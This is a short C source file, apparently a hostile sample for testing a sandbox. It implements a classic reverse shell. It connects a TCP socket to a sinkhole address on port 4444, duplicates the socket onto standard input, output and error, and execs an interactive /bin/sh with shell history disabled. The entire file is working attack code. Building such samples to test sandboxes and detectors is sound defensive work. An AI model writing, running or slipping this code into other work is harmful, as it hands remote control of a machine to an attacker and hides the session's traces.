/* Malicious: the classic reverse shell. Connects a TCP socket to 10.66.66.66:4444 (fails in a
 * --network none sandbox, which is fine), then, as real droppers do, carries on regardless:
 * dup2()s the socket onto stdin/stdout/stderr and execs an interactive /bin/sh. */
#include "common.h"
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
int main(void) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  if (s < 0) { WARN("socket"); return 1; }
  struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(4444) };
  inet_pton(AF_INET, SINKHOLE_IP, &a.sin_addr);
  if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) WARN("revshell: connect " SINKHOLE_IP ":4444");
  else SAY("revshell: connected");
  dup2(s, 0);
  dup2(s, 1);
  dup2(s, 2);
  char *argv[] = { "/bin/sh", "-i", NULL };
  char *envp[] = { "PATH=/usr/local/bin:/usr/bin:/bin", "HISTFILE=/dev/null", NULL };
  execve("/bin/sh", argv, envp);
  return 127;
}
